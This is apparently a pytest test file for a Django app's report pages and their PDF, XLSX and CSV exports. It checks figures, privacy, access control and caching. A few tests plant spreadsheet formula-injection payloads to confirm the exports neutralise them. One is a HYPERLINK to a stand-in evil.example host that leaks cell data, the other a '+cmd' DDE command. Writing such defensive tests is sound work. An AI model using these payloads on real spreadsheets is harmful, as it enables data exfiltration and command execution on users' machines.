"""The bilan pages and their exports: the figures, hidden ones with their reason, nobody's
individual answers; the PDF and the XLSX open and hold the figures."""

from __future__ import annotations

import codecs
import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import pytest
import time_machine
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from conftest import member_user
from maillage.accounts.models import User
from maillage.core.models import AuditEntry
from maillage.editions.models import Group, Membership
from maillage.editions.tests.factories import GroupFactory, MembershipFactory
from maillage.reports.tests.bilan_world import TODAY, World, build
from maillage.surveys.models import Response
from maillage.territories.tests.factories import NetworkAdminFactory, ProjectManagerFactory

pytestmark = pytest.mark.django_db

SECRET = "Secret : L2 a failli fermer."  # a comment without consent
NOT_CHOSEN = "Très utile."  # consented, not chosen by the project manager


@pytest.fixture(autouse=True)
def frozen() -> Any:
    with time_machine.travel(TODAY, tick=False):
        yield


@pytest.fixture
def world() -> World:
    return build()


@pytest.fixture
def manager(world: World) -> User:
    user = User.objects.create_user(email="chef@example.test", password="x" * 12)
    ProjectManagerFactory(territory=world.territory, user=user)
    return user


def pdf_text(body: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def test_the_group_page_shows_the_figures_and_the_charts(
    client: Any, world: World, manager: User
) -> None:
    client.force_login(manager)

    page = client.get(reverse("reports:group_bilan", args=[world.group.pk])).content.decode()

    assert "<strong>6</strong> dirigeants" in page
    assert "8\u00a0000\u00a0€" in page
    assert page.count("<svg") >= 6
    assert "Enfin des pairs." in page
    assert 'style="' not in page


def test_the_territory_bilan_names_its_first_edition_1er_programme(
    client: Any, world: World, manager: User
) -> None:
    client.force_login(manager)

    page = client.get(reverse("reports:territory_bilan", args=[world.territory.slug]))

    text = page.content.decode()
    assert "1er programme</a>" in text
    assert "Questionnaire en fin de programme, 2e programme" in text  # the quote's source
    assert "1e programme" not in text
    assert "Par édition</h2>" in text  # was "Par Édition"


def test_a_hidden_figure_shows_a_dash_and_why(client: Any, manager: User) -> None:
    world = build(slug="forez", final_respondents=4)
    ProjectManagerFactory(territory=world.territory, user=manager)
    client.force_login(manager)

    page = client.get(reverse("reports:group_bilan", args=[world.group.pk])).content.decode()

    assert '<span class="hidden-figure">—' in page
    assert "moins de cinq personnes" in page


def test_a_figure_the_questionnaire_does_not_ask_is_said_not_asked(
    client: Any, world: World, manager: User
) -> None:
    """The baseline asks no NPS, satisfaction or business: six people answered it, and its
    row said these were hidden for resting on fewer than five people."""
    client.force_login(manager)

    page = client.get(reverse("reports:group_bilan", args=[world.group.pk])).content.decode()
    xlsx = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "xlsx"]))

    stages = page[page.index('id="stages-caption"') :]
    baseline = stages[stages.index("À l&#x27;entrée</th>") :]
    baseline = baseline[: baseline.index("</tr>")]
    assert baseline.count("non demandé") == 4  # NPS, satisfaction, business, in touch
    assert "moins de cinq" not in baseline
    rows = {
        row[0]: row[1:6]
        for row in load_workbook(io.BytesIO(xlsx.content))["Évolution"].iter_rows(values_only=True)
        if row[0]
    }
    assert rows["à l'entrée"] == (6, 3.67, "non demandé", "non demandé", "non demandé")
    assert rows["un an après"] == (0, "non demandé", None, "non demandé", None)


def test_no_page_or_export_shows_an_individual_answer(
    client: Any, world: World, manager: User
) -> None:
    client.force_login(manager)
    urls = [reverse("reports:group_bilan", args=[world.group.pk])] + [
        reverse("reports:group_bilan_export", args=[world.group.pk, fmt]) for fmt in ("csv", "xlsx")
    ]
    pages = [client.get(url).content for url in urls]
    pdf = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "pdf"]))

    texts = [pages[0].decode(), pages[1].decode(), _xlsx_text(pages[2]), pdf_text(pdf.content)]
    for text in texts:
        assert SECRET not in text
        assert NOT_CHOSEN not in text
        assert "L0 Dirigeant" not in text


def _xlsx_text(body: bytes) -> str:
    workbook = load_workbook(io.BytesIO(body))
    return " ".join(
        str(cell) for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row
    )


def test_the_xlsx_has_a_sheet_per_section_with_the_figures(
    client: Any, world: World, manager: User
) -> None:
    client.force_login(manager)

    response = client.get(reverse("reports:edition_bilan_export", args=[world.edition.pk, "xlsx"]))

    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Activité",
        "Échanges",
        "Affaires",
        "Évolution",
        "Citations",
        "Groupe",
    ]
    figures = {row[0]: row[1] for row in workbook["Affaires"].iter_rows(values_only=True) if row[0]}
    assert figures["Recommandations gagnées"] == 5
    assert figures["Montant gagné"] == 8000
    change = {row[0]: row[1] for row in workbook["Évolution"].iter_rows(values_only=True) if row[0]}
    assert change["Variation moyenne de l'isolement"] == pytest.approx(-0.76)
    assert change["NPS (−100 à 100)"] == 40


def test_the_xlsx_leaves_a_hidden_figure_empty(client: Any, manager: User) -> None:
    world = build(slug="forez", winners=4)
    ProjectManagerFactory(territory=world.territory, user=manager)
    client.force_login(manager)

    response = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content))["Affaires"]
    figures = {row[0]: row[1] for row in sheet.iter_rows(values_only=True) if row[0]}
    assert figures["Montant gagné"] is None
    assert figures["Recommandations gagnées"] == 4


def test_the_pdf_opens_and_holds_the_figures_and_the_charts(
    client: Any, world: World, manager: User
) -> None:
    client.force_login(manager)

    response = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "pdf"]))

    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    assert "Bilan - Loire" in text or "Bilan · Loire" in text
    assert "8 000 EUR" in text or "8 000 €" in text or "8\xa0000" in text
    assert "Rencontres tenues par année" in text  # a chart's title
    assert "Score d'isolement par étape" in text
    assert "Enfin des pairs." in text


def test_the_pdf_tables_round_their_figures_as_the_lines_do(
    client: Any, world: World, manager: User
) -> None:
    """The isolation at entry is 22 / 6 = 3.67 on every page; the PDF's table showed 3,6 (Django's
    number_format cuts digits off) and 2,96 as 2,9."""
    client.force_login(manager)

    response = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "pdf"]))

    text = pdf_text(response.content)
    assert "à l'entrée 6 3,67 " in text
    assert "programme 5 2,96 40 4,2 60 " in text  # the final questionnaire


def test_the_csv_lists_every_figure(client: Any, world: World, manager: User) -> None:
    client.force_login(manager)

    response = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "csv"]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    values = {(row[0], row[2], row[3]): row[4] for row in rows[1:] if len(row) > 4}
    assert values[("Activité", "Dirigeants", "")] == "6"
    assert values[("Activité", "Rencontres tenues", "")] == "3"
    assert Decimal(values[("Affaires", "Montant gagné", "")].replace(",", ".")) == Decimal(8000)


def test_the_csv_starts_with_a_byte_order_mark_for_excel(
    client: Any, world: World, manager: User
) -> None:
    """Excel takes a CSV without the UTF-8 mark for Windows-1252 ("ActivitÃ©")."""
    client.force_login(manager)

    response = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "csv"]))

    assert response.content.startswith(codecs.BOM_UTF8)
    assert response.content[3:].decode("utf-8").startswith("section;tableau;")


def test_exports_are_audited(client: Any, world: World, manager: User) -> None:
    client.force_login(manager)

    client.get(reverse("reports:territory_bilan_export", args=[world.territory.slug, "csv"]))

    entry = AuditEntry.objects.get(action="reports.bilan.exported")
    assert entry.data == {"level": "territory", "key": world.territory.slug, "format": "csv"}
    assert entry.territory_id == world.territory.pk


def test_an_unknown_export_format_answers_404(client: Any, world: World, manager: User) -> None:
    client.force_login(manager)

    response = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "doc"]))

    assert response.status_code == 404


def test_the_network_bilan_is_for_its_admins(client: Any, world: World, manager: User) -> None:
    admin = User.objects.create_user(email="reseau@example.test", password="x" * 12)
    NetworkAdminFactory(network=world.territory.network, user=admin)
    url = reverse("reports:network_bilan", args=[world.territory.network.slug])

    client.force_login(manager)
    assert client.get(url).status_code == 404
    client.force_login(admin)
    page = client.get(url).content.decode()
    assert reverse("reports:territory_bilan", args=[world.territory.slug]) in page


def test_the_edition_page_links_only_the_group_bilans_the_reader_may_open(
    client: Any, world: World, manager: User
) -> None:
    other_group = GroupFactory(edition=world.edition, name="Rhins")
    MembershipFactory(group=other_group)
    leader = member_user(world.group, Membership.Role.LEADER, "l0@example.test")
    url = reverse("reports:edition_bilan", args=[world.edition.pk])
    own = reverse("reports:group_bilan", args=[world.group.pk])
    other = reverse("reports:group_bilan", args=[other_group.pk])

    client.force_login(manager)  # drawn for the staff first: every group links
    staff_page = client.get(url).content.decode()
    client.force_login(leader)
    leader_page = client.get(url).content.decode()

    assert own in staff_page
    assert other in staff_page
    assert own in leader_page
    assert other not in leader_page  # its bilan answers 404 to this leader
    assert "Rhins" in leader_page
    assert client.get(other).status_code == 404


# The page drawn from prepared figures -------------------------------------------------------


@pytest.fixture
def charts_drawn(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Counts the times a bilan page is drawn (its charts built)."""
    from maillage.reports import bilan_views

    calls: list[int] = []
    real = bilan_views.bilan_charts

    def counted(report: Any) -> Any:
        calls.append(1)
        return real(report)

    monkeypatch.setattr(bilan_views, "bilan_charts", counted)
    return calls


def test_a_page_of_prepared_figures_is_drawn_once_for_its_readers(
    client: Any, world: World, manager: User, charts_drawn: list[int]
) -> None:
    other = User.objects.create_user(email="autre-chef@example.test", password="x" * 12)
    ProjectManagerFactory(territory=world.territory, user=other)
    url = reverse("reports:group_bilan", args=[world.group.pk])

    client.force_login(manager)
    first = client.get(url).content.decode()
    client.force_login(other)
    second = client.get(url).content.decode()

    assert len(charts_drawn) == 1
    for page in (first, second):
        assert "<strong>6</strong> dirigeants" in page
        assert page.count("<svg") >= 6


def test_new_figures_are_drawn_again(
    client: Any, world: World, manager: User, charts_drawn: list[int]
) -> None:
    from maillage.core.prepared import compute
    from maillage.reports.bilan.prepared import scope_bilan_page

    url = reverse("reports:group_bilan", args=[world.group.pk])
    client.force_login(manager)
    client.get(url)
    path = f"{scope_bilan_page.__module__}.{scope_bilan_page.__qualname__}"
    with time_machine.travel(datetime.datetime.combine(TODAY, datetime.time(0, 20)), tick=False):
        compute(path, ["group", world.group.pk, "fr"])  # as the refresh task does
        page = client.get(url).content.decode()

    assert len(charts_drawn) == 2
    assert "<strong>6</strong> dirigeants" in page


def test_each_language_has_its_own_drawing(
    client: Any, world: World, manager: User, charts_drawn: list[int]
) -> None:
    url = reverse("reports:group_bilan", args=[world.group.pk])
    client.force_login(manager)

    french = client.get(url).content.decode()
    client.cookies["django_language"] = "en"
    english = client.get(url).content.decode()

    assert "dirigeants" in french
    assert "leaders" in english
    assert "dirigeants" not in english
    assert len(charts_drawn) == 2


def test_a_drawn_page_is_shown_to_no_one_who_may_not_read_it(
    client: Any, world: World, manager: User
) -> None:
    url = reverse("reports:group_bilan", args=[world.group.pk])
    client.force_login(manager)
    assert client.get(url).status_code == 200  # drawn and kept

    stranger = User.objects.create_user(email="ailleurs@example.test", password="x" * 12)
    ProjectManagerFactory(user=stranger)  # another territory's project manager
    client.force_login(stranger)
    assert client.get(url).status_code == 404


FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'


def _formulas_in_user_text(world: World) -> None:
    """A participant's quote and a group's name that a spreadsheet would run as formulas."""
    Response.objects.filter(comment="Enfin des pairs.").update(comment=FORMULA)
    Group.objects.filter(pk=world.group.pk).update(name="+cmd|' /C calc'!A0")


def test_the_csv_neutralises_formulas_in_user_text(
    client: Any, world: World, manager: User
) -> None:
    """Excel runs a cell starting with = + - @ (or a tab, a CR): user text gets a leading
    apostrophe; figures, negative ones included, stay numbers."""
    _formulas_in_user_text(world)
    client.force_login(manager)

    response = client.get(reverse("reports:edition_bilan_export", args=[world.edition.pk, "csv"]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "'+cmd|' /C calc'!A0" in cells
    values = {(row[0], row[2], row[3]): row[4] for row in rows[1:] if len(row) > 4}
    assert values[("Évolution", "Variation moyenne de l'isolement", "")] in ("-0.76", "-0,76")
    unsafe = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    unsafe += [
        c
        for c in cells
        if c.startswith("-") and not c[1:].replace(",", "").replace(".", "").isdigit()
    ]
    assert unsafe == []


def test_the_csv_writes_decimals_as_the_language_does(
    client: Any, world: World, manager: User
) -> None:
    """Semicolons for French Excel, so decimal commas: "3.8" would open as a date (3 August)."""
    client.force_login(manager)
    url = reverse("reports:group_bilan_export", args=[world.group.pk, "csv"])

    french = client.get(url).content.decode("utf-8-sig")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = client.get(url).content.decode("utf-8-sig")

    def change(text: str) -> dict[str, str]:
        rows = csv.reader(io.StringIO(text), delimiter=";")
        return {row[2]: row[4] for row in rows if len(row) > 4 and not row[3]}

    assert change(french)["Variation moyenne de l'isolement"] == "-0,76"
    assert change(english)["Average change in isolation"] == "-0.76"


def test_the_xlsx_keeps_user_text_as_text(client: Any, world: World, manager: User) -> None:
    """openpyxl writes a string starting with "=" as a formula unless told it is text."""
    _formulas_in_user_text(world)
    client.force_login(manager)

    response = client.get(reverse("reports:edition_bilan_export", args=[world.edition.pk, "xlsx"]))

    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert FORMULA in [c.value for c in cells]


@pytest.mark.parametrize("name", ["Łukasz Wiśniewski", "Дмитрий Иванов", "Αλέξανδρος", "王小明"])
def test_the_pdf_prints_names_exactly_whatever_their_alphabet(
    client: Any, world: World, manager: User, name: str
) -> None:
    """The group's name (the title) and the edition's groups (its table's rows)."""
    world.group.name = name
    world.group.save(update_fields=["name"])
    client.force_login(manager)

    group_pdf = client.get(reverse("reports:group_bilan_export", args=[world.group.pk, "pdf"]))
    edition_pdf = client.get(
        reverse("reports:edition_bilan_export", args=[world.edition.pk, "pdf"])
    )

    assert f"Bilan · {name}" in pdf_text(group_pdf.content)
    assert name in pdf_text(edition_pdf.content)
    assert len(group_pdf.content) < 150_000  # fonts embedded as subsets


def test_the_exports_hold_a_name_with_a_control_character(
    client: Any, world: World, manager: User
) -> None:
    """Word's line break (a vertical tab) pasted in a group's name: XML, so a workbook, cannot
    hold it (openpyxl refused it and the export failed); it becomes a space there."""
    world.group.name = "Loire\x0bNord"
    world.group.save(update_fields=["name"])
    client.force_login(manager)

    responses = {
        fmt: client.get(reverse("reports:edition_bilan_export", args=[world.edition.pk, fmt]))
        for fmt in ("xlsx", "csv", "pdf")
    }

    assert {fmt: r.status_code for fmt, r in responses.items()} == dict.fromkeys(responses, 200)
    workbook = load_workbook(io.BytesIO(responses["xlsx"].content))
    cells = {
        value for sheet in workbook for row in sheet.iter_rows(values_only=True) for value in row
    }
    assert "Loire Nord" in cells
    assert "Loire Nord" in pdf_text(responses["pdf"].content)
